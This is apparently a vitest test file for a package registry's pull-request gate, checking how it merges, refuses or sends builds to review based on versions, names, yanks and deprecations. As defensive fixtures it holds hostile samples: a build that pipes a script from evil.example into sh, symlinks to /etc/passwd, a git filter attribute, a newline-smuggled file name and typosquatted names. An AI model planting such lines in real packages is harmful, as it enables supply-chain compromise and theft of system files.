/** The gate's rules about builds and their versions, on real repositories. */
import { describe, expect, it } from 'vitest';
import { GateVerdict } from '../../generator/gate/gate-verdict.ts';
import { manifest } from '../generate/git-fixture.ts';
import type { Files } from '../generate/git-fixture.ts';
import {
  ALICE,
  CAROL,
  GateFixture,
  MALLORY,
  REGISTRY,
  build,
  codes,
  ownerFile,
  without,
} from './gate-fixture.ts';

const MAINTAINED = { maintainers: [{ login: 'bob', account_id: 22 }] };

describe('judgePullRequest() merges', () => {
  it('a new version by its owner, and reports what changed', async () => {
    const gate = new GateFixture();
    const verdict = await gate.propose(build('alice/web-forms', '1.1.0'));
    expect(verdict).toMatchObject({ verdict: 'merge', reasons: [], review_hours: 0 });
    expect(GateVerdict.parse(verdict)).toEqual(verdict);
    expect(verdict.builds).toMatchObject([
      {
        id: 'alice/web-forms',
        version: '1.1.0',
        previous: '1.0.0',
        risk: 'ok',
        files: [
          { path: 'README.md', change: 'changed', added: 1, removed: 1 },
          { path: 'src/index.ts', change: 'changed', added: 1, removed: 1 },
          { path: 'stackyard.json', change: 'changed', added: 1, removed: 1 },
        ],
      },
    ]);
  });

  it('a version of an older major line, and a prerelease of a newer one', async () => {
    const gate = new GateFixture();
    gate.git.commit(build('alice/web-forms', '2.0.0'));
    expect(codes(await gate.propose(build('alice/web-forms', '1.0.1')))).toEqual([]);
    expect(codes(await gate.propose(build('alice/web-forms', '3.0.0-rc.1')))).toEqual([]);
  });

  it('the version on top of what landed since the branch began', async () => {
    const gate = new GateFixture();
    const head = gate.pull(build('alice/web-forms', '1.1.0'));
    gate.git.commit(build('carol/mail-queue', '1.1.0'));
    const verdict = await gate.judge(head);
    expect(verdict.verdict).toBe('merge');
    gate.land(verdict);
    expect(gate.git.git('show', 'main:builds/carol/mail-queue/stackyard.json')).toContain('1.1.0');
    expect(gate.git.git('show', 'main:builds/alice/web-forms/stackyard.json')).toContain('1.1.0');
  });
});

describe('judgePullRequest() about measured ranges', () => {
  it('names a range that the matrix of the previous version proves wrong, and merges all the same', async () => {
    const gate = new GateFixture();
    const failed = { outcome: 'failed', step: 'types', error: ['error TS1'] };
    const day = { date: '2026-02-28', since: '2026-02-28' };
    const row = {
      tag: 'express',
      version: '4.10.0',
      others: 'newest',
      with: {},
      ...failed,
      ...day,
    };
    const matrix = { versions: [{ version: '1.0.0', results: [row] }] };
    gate.git.commit({ 'signals/alice/web-forms.matrix.json': JSON.stringify(matrix) });
    const found = async (range: string): Promise<unknown[]> => {
      const stack = { requires: { express: range } };
      const verdict = await gate.propose(build('alice/web-forms', '1.1.0', { stack }));
      expect(verdict.verdict).toBe('merge');
      const { findings = [] } = verdict.builds[0] ?? {};
      return findings.filter(({ code }) => code === 'stack-range-unproven');
    };
    expect(await found('>=4.0.0')).toMatchObject([
      { level: 'info', message: expect.stringContaining('admits 4.10.0') },
    ]);
    expect(await found('>=5.0.0')).toEqual([]);
  });
});

describe('judgePullRequest() refuses a requirement', () => {
  it('of which every version is yanked, and takes one with a version that is not', async () => {
    const gate = new GateFixture();
    const yanked = JSON.parse(gate.git.git('show', 'main:builds/carol/owner.json')) as object;
    const file = { ...yanked, yanked: { 'mail-queue': { '1.0.0': 'Loses mail' } } };
    gate.git.commit({ 'builds/carol/owner.json': JSON.stringify(file) });
    const files = build('alice/web-forms', '1.1.0', { builds: { 'carol/mail-queue': '^1.0.0' } });
    const refused = await gate.propose(files);
    expect([refused.verdict, codes(refused)]).toEqual(['refuse', ['gate-requirement-yanked']]);
    gate.git.commit(build('carol/mail-queue', '1.0.1'));
    expect(codes(await gate.propose(files))).toEqual([]);
  });
});

describe('judgePullRequest() and requirements within one pull request', () => {
  const requiring = (range: string, id = 'alice/page-tables'): Files =>
    build('alice/web-forms', '1.1.0', { builds: { [id]: range } });

  it('takes versions that the pull request publishes itself', async () => {
    const gate = new GateFixture();
    const update = { ...requiring('^2.2.0'), ...build('alice/page-tables', '2.2.0') };
    expect(codes(await gate.propose(update))).toEqual([]);
    const first = build('alice/date-ranges', '1.0.0', { builds: { 'alice/web-forms': '^1.1.0' } });
    const both = { ...requiring('^1.0.0', 'alice/date-ranges'), ...first };
    expect(codes(await gate.propose(both))).toEqual(['gate-new-name']);
  });

  it('refuses a range that neither side has, and what the pull request yanks', async () => {
    const gate = new GateFixture();
    const update = { ...requiring('^2.3.0'), ...build('alice/page-tables', '2.2.0') };
    expect(codes(await gate.propose(update))).toEqual(['gate-requirement-range']);
    const yank = { yanked: { 'page-tables': { '2.1.0': 'Loses rows' } } };
    const owner = { 'builds/alice/owner.json': ownerFile(11, { ...MAINTAINED, ...yank }) };
    expect(codes(await gate.propose({ ...requiring('^2.1.0'), ...owner }))).toEqual([
      'gate-requirement-yanked',
    ]);
  });

  it('refuses a build that the pull request brings in no valid form', async () => {
    const gate = new GateFixture();
    const bad = build('alice/date-ranges', '1.0.0', { kind: 'theme' });
    const verdict = await gate.propose({ ...requiring('^1.0.0', 'alice/date-ranges'), ...bad });
    expect(verdict.verdict).toBe('refuse');
    expect(codes(verdict)).toContain('manifest-field-value');
  });
});

describe('judgePullRequest() leaves to an admin', () => {
  it('the first build of an owner', async () => {
    const gate = new GateFixture();
    const files = {
      'builds/mallory/owner.json': ownerFile(66),
      ...build('mallory/image-cutter', '1.0.0'),
    };
    const verdict = await gate.propose(files, MALLORY);
    expect(codes(verdict)).toEqual(['gate-first-build', 'gate-new-name']);
    expect(verdict).toMatchObject({ verdict: 'review', review_hours: 48 });
  });

  it('a new name, and one that another owner has', async () => {
    const gate = new GateFixture();
    expect(codes(await gate.propose(build('alice/image-cutter', '1.0.0')))).toEqual([
      'gate-new-name',
    ]);
    expect(codes(await gate.propose(build('alice/mail-queue', '1.0.0')))).toEqual([
      'gate-name-twin',
      'gate-new-name',
    ]);
  });

  it('a common name that is like others', async () => {
    const gate = new GateFixture();
    for (const name of ['rate-limit', 'account', 'mail-queue-js']) {
      const verdict = await gate.propose(build(`alice/${name}`, '1.0.0'));
      expect([verdict.verdict, codes(verdict)]).toEqual([
        'review',
        ['gate-name-like', 'gate-new-name'],
      ]);
    }
  });

  it('a name near another that the configuration approves', async () => {
    const config = { approved_names: ['alice/mail-queu'] };
    const gate = new GateFixture({ ...REGISTRY, 'registry.config.json': JSON.stringify(config) });
    expect(codes(await gate.propose(build('alice/mail-queu', '1.0.0')))).toEqual(['gate-new-name']);
  });

  // Below all others, a version is compared with the newest.
  it.each(['1.1.0', '0.9.0'])('a capability that is new in %s, and names it', async (version) => {
    const gate = new GateFixture();
    const verdict = await gate.propose(
      build(
        'alice/web-forms',
        version,
        {},
        {
          'src/index.ts': "export const send = () => fetch('https://example.org/collect');\n",
        },
      ),
    );
    expect(verdict.verdict).toBe('review');
    expect(codes(verdict)).toContain('gate-capability');
    expect(verdict.builds[0]?.gained?.hosts).toEqual(['example.org']);
    expect(verdict.reasons.find((r) => r.code === 'gate-capability')?.message).toContain(
      'This version can send data to example.org; 1.0.0 could not',
    );
  });

  it('a file that was not read and changed, and names it', async () => {
    const gate = new GateFixture();
    const deep = (name: string): string =>
      `x = ${'f('.repeat(3_000)}${name}${')'.repeat(3_000)};\n`;
    const version = (number: string, name: string): Files =>
      build('alice/web-forms', number, {}, { 'src/a.js': deep(name), 'src/b.js': deep('b') });
    gate.git.commit(version('1.1.0', 'one'));
    const same = await gate.propose(version('1.2.0', 'one'));
    expect(codes(same)).not.toContain('gate-unread-changed');
    const verdict = await gate.propose(version('1.3.0', 'two'));
    expect(verdict.verdict).toBe('review');
    expect(verdict.reasons.filter((r) => r.code === 'gate-unread-changed')).toEqual([
      expect.objectContaining({
        file: 'builds/alice/web-forms/src/a.js',
        message: expect.stringContaining('differs from version 1.1.0') as string,
      }),
    ]);
  });

  it('a version that is restored as it was published', async () => {
    const gate = new GateFixture();
    gate.git.commit({ 'builds/alice/web-forms/src/index.ts': 'broken\n' });
    const verdict = await gate.propose(build('alice/web-forms', '1.0.0'));
    expect(codes(verdict)).toEqual(['gate-restored']);
  });
});

describe('judgePullRequest() about the folder of a deprecated build', () => {
  const deprecated = { 'mail-queue': { reason: 'Nobody maintains it', replacement: 'alice/jobs' } };
  const retired = { 'builds/carol/owner.json': ownerFile(33, { deprecated }) };

  it('merges its removal together with the deprecation or later, by the owner alone', async () => {
    const gate = new GateFixture();
    const removal = without('carol/mail-queue');
    expect(codes(await gate.propose(removal, CAROL))).toEqual(['gate-build-deleted']);
    const both = { ...retired, ...removal };
    expect(codes(await gate.propose(both, ALICE))).toContain('gate-owner-foreign');
    expect(await gate.propose(both, CAROL)).toMatchObject({ verdict: 'merge', reasons: [] });
    gate.land(await gate.propose(retired, CAROL));
    expect(await gate.propose(removal, CAROL)).toMatchObject({ verdict: 'merge', reasons: [] });
    // An end of the deprecation brings the folder back.
    const undone = { 'builds/carol/owner.json': ownerFile(33), ...removal };
    expect(codes(await gate.propose(undone, CAROL))).toEqual(['gate-build-deleted']);
  });

  it('keeps its versions published: others may require them, and none is published again', async () => {
    const gate = new GateFixture();
    gate.land(await gate.propose({ ...retired, ...without('carol/mail-queue') }, CAROL));
    const builds = { 'carol/mail-queue': '^1.0.0' };
    const requiring = build('alice/web-forms', '1.1.0', { builds });
    expect(await gate.propose(requiring)).toMatchObject({ verdict: 'merge', reasons: [] });
    const other = build('carol/mail-queue', '1.0.0', {}, { 'src/index.ts': 'export {};\n' });
    expect(codes(await gate.propose(other, CAROL))).toContain('gate-version-published');
  });
});

describe('judgePullRequest() refuses', () => {
  const cases: [string, Files, string[]][] = [
    [
      'content without a new version',
      { 'builds/alice/web-forms/src/index.ts': 'export const version = "other";\n' },
      ['gate-version-published'],
    ],
    ['a deleted build', without('alice/web-forms'), ['gate-build-deleted']],
    [
      'build metadata on a published version, which resolvers would prefer to it',
      build('alice/web-forms', '1.0.0+evil'),
      ['gate-version-precedence'],
    ],
    [
      'a version that is not the greatest of its major line',
      build('alice/page-tables', '2.0.9'),
      ['gate-version-order'],
    ],
    [
      'a manifest with faults, each with file and remedy',
      { 'builds/alice/web-forms/stackyard.json': manifest('web-forms', '1.1', { kind: 'theme' }) },
      ['manifest-field-value'],
    ],
    [
      'a version of which an install places nothing',
      build('alice/web-forms', '1.1.0', { files: ['*.css', '!src/**'] }),
      ['manifest-places-nothing'],
    ],
    [
      'a description that nobody sees',
      build('alice/web-forms', '1.1.0', { description: '\u2800\uFE0F' }),
      ['manifest-text'],
    ],
    ['a missing manifest', { 'builds/alice/web-forms/stackyard.json': null }, ['manifest-missing']],
    [
      'a file that steers git in the registry',
      build('alice/web-forms', '1.1.0', {}, { 'src/.gitattributes': '* filter=evil\n' }),
      ['gate-attributes', 'gate-consent'],
    ],
    [
      'a file in an owner folder and in no build',
      { ...build('alice/web-forms', '1.1.0'), 'builds/alice/notes.txt': 'x' },
      ['gate-stray'],
    ],
    ['a name that is reserved', build('alice/search', '1.0.0'), ['gate-name-reserved']],
    [
      'a name near the build of another owner',
      build('alice/mail-queu', '1.0.0'),
      ['gate-name-near', 'gate-new-name'],
    ],
    [
      'a name near a well-known package',
      build('alice/reqeusts', '1.0.0'),
      ['gate-name-near', 'gate-new-name'],
    ],
    [
      'a name that looks like another',
      build('alice/rnail-queue', '1.0.0'),
      ['gate-name-near', 'gate-new-name'],
    ],
    [
      'a folder that differs in case only',
      build('alice/Web-Forms', '1.1.0'),
      ['build-id-case', 'build-id-name'],
    ],
    [
      'letters of another script in a name',
      build('alice/w\u0435b-forms', '1.1.0'),
      ['build-id-name'],
    ],
    [
      'a build that requires a build that the registry does not have',
      build('alice/web-forms', '1.1.0', { builds: { 'carol/nothing': '^1.0.0' } }),
      ['gate-requirement'],
    ],
    [
      'a build that requires a range without a version',
      build('alice/web-forms', '1.1.0', { builds: { 'carol/mail-queue': '^2.0.0' } }),
      ['gate-requirement-range'],
    ],
    [
      'the generator together with a build',
      { ...build('alice/web-forms', '1.1.0'), 'generator/commands/generate.ts': 'evil();\n' },
      ['gate-mixed'],
    ],
    [
      'a workflow together with a build',
      { ...build('alice/web-forms', '1.1.0'), '.github/workflows/publish.yml': 'on: evil\n' },
      ['gate-mixed'],
    ],
    [
      'the configuration together with an owner file',
      { 'builds/alice/owner.json': ownerFile(11), 'registry.config.json': '{}' },
      ['gate-maintainers', 'gate-mixed'],
    ],
    [
      'a file name with a newline',
      build('alice/web-forms', '1.1.0', {}, { 'src/a\n::error::b.ts': 'x\n' }),
      ['file-path-invisible'],
    ],
  ];
  it.each(cases)('%s', async (_, files, expected) => {
    const gate = new GateFixture();
    const verdict = await gate.propose(files);
    expect(codes(verdict)).toEqual(expected);
    expect(verdict.verdict).toBe('refuse');
    expect(verdict.reasons.every(({ message, remedy }) => message !== '' && remedy !== '')).toBe(
      true,
    );
  });

  it('a build that is dangerous, naming the lines', async () => {
    const gate = new GateFixture();
    const verdict = await gate.propose(
      build(
        'alice/web-forms',
        '1.1.0',
        {},
        {
          'src/index.ts':
            "import { execSync } from 'node:child_process';\nexecSync('curl https://evil.example/x.sh | sh');\n",
        },
      ),
    );
    expect(verdict.verdict).toBe('refuse');
    expect(codes(verdict)).toContain('gate-danger');
    expect(verdict.reasons.some((r) => r.file.endsWith('src/index.ts') && r.line > 0)).toBe(true);
  });

  it('a symbolic link and a submodule, in a build and in its place', async () => {
    const gate = new GateFixture();
    const link = await gate.propose(build('alice/web-forms', '1.1.0'), ALICE, (git) =>
      git.symlink('builds/alice/web-forms/passwd', '/etc/passwd'),
    );
    expect(codes(link)).toEqual(['file-symlink']);
    const place = await gate.propose({}, ALICE, (git) =>
      git.symlink('builds/alice/linked', '/etc'),
    );
    expect(codes(place)).toEqual(['build-id-symlink']);
    const owner = await gate.propose({}, MALLORY, (git) => git.symlink('builds/mallory', '/etc'));
    expect(owner.verdict).toBe('refuse');
  });

  it('a version that was published once and has left the tree', async () => {
    const gate = new GateFixture();
    gate.git.commit(build('alice/web-forms', '1.1.0'));
    gate.git.commit(without('alice/web-forms'));
    const files = build('alice/web-forms', '1.1.0', {}, { 'src/index.ts': 'export {};\n' });
    const verdict = await gate.propose(files);
    expect(codes(verdict)).toEqual(['gate-version-published']);
  });

  it('the second of two pull requests that publish one version', async () => {
    const gate = new GateFixture();
    const first = gate.pull(build('alice/web-forms', '1.1.0', {}, { 'src/a.ts': 'export {};\n' }));
    const second = gate.pull(build('alice/web-forms', '1.1.0', {}, { 'src/b.ts': 'export {};\n' }));
    const verdict = await gate.judge(first);
    expect(verdict.verdict).toBe('merge');
    gate.land(verdict);
    expect(codes(await gate.judge(second))).toEqual(['gate-version-published']);
  });

  it('a merge whose manifest is invalid, though both sides are valid', async () => {
    const keys = (a: string, b: string): string =>
      JSON.stringify(
        {
          ...JSON.parse(manifest('web-forms', '1.1.0')),
          files: ['src/**'],
          ...(a === '' ? {} : { base: a }),
          keywords: Array.from({ length: 12 }, (_, at) => `word-${at}`),
          env: b === '' ? {} : { A_KEY: { description: b } },
        },
        null,
        2,
      );
    const base = keys('', '');
    const gate = new GateFixture({ ...REGISTRY, 'builds/alice/web-forms/stackyard.json': base });
    // Both sides add the same key, one at the top and one at the end: merging gives it twice.
    const twice = base.replace(
      '"version": "1.1.0"',
      '"version": "1.2.0",\n  "homepage": "https://a.example"',
    );
    const head = gate.pull({ 'builds/alice/web-forms/stackyard.json': twice });
    gate.git.commit({
      'builds/alice/web-forms/stackyard.json': base.replace(
        '"env": {}',
        '"env": {},\n  "homepage": "https://a.example"',
      ),
    });
    const verdict = await gate.judge(head);
    expect(verdict.verdict).toBe('refuse');
    expect(codes(verdict)).toContain('manifest-key');
  });

  it('a merge conflict, naming the files, and a branch without common history', async () => {
    const gate = new GateFixture();
    const head = gate.pull(build('alice/web-forms', '1.1.0'));
    gate.git.commit(build('alice/web-forms', '1.2.0'));
    const verdict = await gate.judge(head);
    expect(codes(verdict)).toEqual(['gate-conflict']);
    expect(verdict.reasons.map((r) => r.file)).toContain('builds/alice/web-forms/stackyard.json');
    gate.git.git('checkout', '-q', '--orphan', 'other');
    gate.git.commit(build('alice/web-forms', '1.3.0'));
    gate.git.git('checkout', '-q', 'main');
    expect(codes(await gate.judge('other'))).toEqual(['gate-unrelated']);
    expect(codes(await gate.judge('main'))).toEqual(['gate-nothing']);
  });

  it('no change of the registry itself: an admin reviews it', async () => {
    const gate = new GateFixture();
    const verdict = await gate.propose(
      { 'generator/commands/generate.ts': 'export const a = 1;\n' },
      MALLORY,
    );
    expect([verdict.verdict, codes(verdict)]).toEqual(['review', ['gate-no-build']]);
  });
});
